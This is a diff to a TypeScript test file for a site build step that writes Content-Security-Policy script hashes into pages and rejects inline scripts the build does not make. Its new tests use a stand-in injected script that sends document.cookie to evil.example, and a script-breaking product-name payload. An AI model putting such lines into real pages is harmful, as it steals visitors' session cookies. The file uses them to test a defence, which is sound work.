@@ -4,7 +4,7 @@ import { dirname, join } from 'node:path';
 import { brotliDecompressSync, gunzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { BROTLI_MIN_BYTES, precompress, startCompressing } from './precompress.ts';
-import { inlineScriptSpans, inlineScripts, scriptHash, secureSite } from './site-csp.ts';
+import { scriptHash, secureSite } from './site-csp.ts';
 
 let site: string;
 const write = (path: string, content: string) => {
@@ -17,40 +17,14 @@ beforeAll(() => {
 });
 afterAll(() => rmSync(site, { recursive: true, force: true }));
 
-describe('inlineScripts', () => {
-  test('finds the scripts a browser runs and leaves out external scripts and JSON data blocks', () => {
-    const html = [
-      '<script>one()</script>',
-      '<script type="module">two()</script>',
-      '<script type="module" src="/_astro/app.js"></script>',
-      '<script type="application/ld+json">{"@type":"Product"}</script>',
-      '<SCRIPT type="text/javascript">three()</SCRIPT >',
-    ].join('');
-    expect(inlineScripts(html)).toEqual(['one()', 'two()', 'three()']);
-  });
-});
-
-describe('inlineScriptSpans', () => {
-  test("finds the same scripts as inlineScripts, by place, also in a page's bytes read as latin1", () => {
-    const html =
-      '<head><script>a("光谱")</script><script src="/x.js"></script><SCRIPT type="module">b()</SCRIPT ></head>';
-    const spans = inlineScriptSpans(html);
-    expect(spans.map(([start, end]) => html.slice(start, end))).toEqual(inlineScripts(html));
-    expect(inlineScripts(html)).toEqual(['a("光谱")', 'b()']);
-    const bytes = new TextEncoder().encode(html);
-    const latin1 = Buffer.from(bytes).toString('latin1');
-    expect(inlineScriptSpans(latin1).map(([start, end]) => scriptHash(bytes.subarray(start, end)))).toEqual([
-      scriptHash('a("光谱")'),
-      scriptHash('b()'),
-    ]);
-  });
-});
+/** The scripts these tests' pages carry, as the build's own (own-scripts.ts). */
+const ownScripts = new Set(['a()', 'b()', 'c()'].map((script) => scriptHash(script)));
 
 describe('secureSite', () => {
   test("puts in each page a policy with its own inline scripts' hashes, and all of them in _headers", async () => {
     write('index.html', '<!doctype html><html><head><meta charset="utf-8"><script>a()</script></head></html>');
     write('about/index.html', '<!doctype html><html><head><meta charset="utf-8"><script>b()</script></head></html>');
-    const { pages, scriptHashes } = await secureSite(site, { connectOrigins: ['https://api.example.com'] });
+    const { pages, scriptHashes } = await secureSite(site, { ownScripts, connectOrigins: ['https://api.example.com'] });
     expect(pages).toBe(2);
     expect(scriptHashes).toEqual([scriptHash('a()'), scriptHash('b()')].sort());
     for (const [page, own, other] of [
@@ -80,11 +54,11 @@ describe('secureSite on a kept staging tree', () => {
     write('staged/a/index.html', page('a()'));
     write('staged/b/index.html', page('b()'));
     const stateFile = join(site, 'policy.json');
-    await secureSite(dir, { stateFile });
+    await secureSite(dir, { ownScripts, stateFile });
     const kept = readFileSync(join(dir, 'b/index.html'), 'utf8');
 
     write('staged/a/index.html', page('a()'));
-    const again = await secureSite(dir, { stateFile, only: [join(dir, 'a/index.html')] });
+    const again = await secureSite(dir, { ownScripts, stateFile, only: [join(dir, 'a/index.html')] });
     expect(again.pages).toBe(1);
     expect(readFileSync(join(dir, 'a/index.html'), 'utf8').split('http-equiv="content-security-policy"')).toHaveLength(
       2,
@@ -92,16 +66,55 @@ describe('secureSite on a kept staging tree', () => {
     expect(readFileSync(join(dir, 'b/index.html'), 'utf8')).toBe(kept);
 
     write('staged/a/index.html', page('c()'));
-    const widened = await secureSite(dir, { stateFile, only: [join(dir, 'a/index.html')] });
+    const widened = await secureSite(dir, { ownScripts, stateFile, only: [join(dir, 'a/index.html')] });
     expect(widened.pages).toBe(1);
     expect(readFileSync(join(dir, 'a/index.html'), 'utf8')).toContain(`script-src 'self' ${scriptHash('c()')};`);
     expect(readFileSync(join(dir, 'b/index.html'), 'utf8')).toBe(kept);
     // _headers lists what it listed and the new hash; a pass over every page lists only what pages carry.
     expect(widened.scriptHashes).toEqual([scriptHash('a()'), scriptHash('b()'), scriptHash('c()')].sort());
     expect(readFileSync(join(dir, '_headers'), 'utf8')).toContain(scriptHash('c()'));
-    const whole = await secureSite(dir, { stateFile });
+    const whole = await secureSite(dir, { ownScripts, stateFile });
     expect(whole.pages).toBe(2);
     expect(whole.scriptHashes).toEqual([scriptHash('b()'), scriptHash('c()')].sort());
+  });
+});
+
+describe('secureSite and scripts the build does not make', () => {
+  const page = (...scripts: string[]) =>
+    `<!doctype html><html><head><meta charset="utf-8">${scripts.map((s) => `<script>${s}</script>`).join('')}</head></html>`;
+
+  test("stops at a page carrying an inline script that is not the build's own, naming the page and the script", async () => {
+    const dir = join(site, 'injected');
+    write('injected/a/index.html', page('a()'));
+    write('injected/product/9-laser/index.html', page('b()', 'fetch("https://evil.example/?"+document.cookie)'));
+    await expect(secureSite(dir, { ownScripts })).rejects.toThrow(
+      /^\/product\/9-laser\/index\.html carries an inline script the build does not make \('sha256-[^']+': "fetch\(\\"https:\/\/evil\.example/,
+    );
+    expect(readFileSync(join(dir, 'product/9-laser/index.html'), 'utf8')).not.toContain('content-security-policy');
+  });
+
+  test("takes a script's letters in an attribute's value for what they are, text: a hostile product name passes", async () => {
+    const dir = join(site, 'hostile-name');
+    const name = '</script><script>window.pwned=1</script>';
+    write('hostile-name/index.html', page('a()').replace('</head>', `</head><body><img alt="${name}"></body>`));
+    const { scriptHashes } = await secureSite(dir, { ownScripts });
+    expect(scriptHashes).toEqual([scriptHash('a()')]);
+  });
+
+  test('reads every page again when the kept policy lists a hash the build does not make', async () => {
+    const dir = join(site, 'kept-foreign');
+    write('kept-foreign/a/index.html', page('a()'));
+    write('kept-foreign/b/index.html', page('b()'));
+    const stateFile = join(site, 'kept-foreign-policy.json');
+    // A policy kept from before scripts were checked: it lists one that no page of the build makes.
+    writeFileSync(
+      stateFile,
+      JSON.stringify({ scriptHashes: [scriptHash('x()'), scriptHash('a()')], connectOrigins: [] }),
+    );
+    const again = await secureSite(dir, { ownScripts, stateFile, only: [join(dir, 'a/index.html')] });
+    expect(again.pages).toBe(2);
+    expect(again.scriptHashes).toEqual([scriptHash('a()'), scriptHash('b()')].sort());
+    expect(readFileSync(join(dir, '_headers'), 'utf8')).not.toContain(scriptHash('x()'));
   });
 });
 
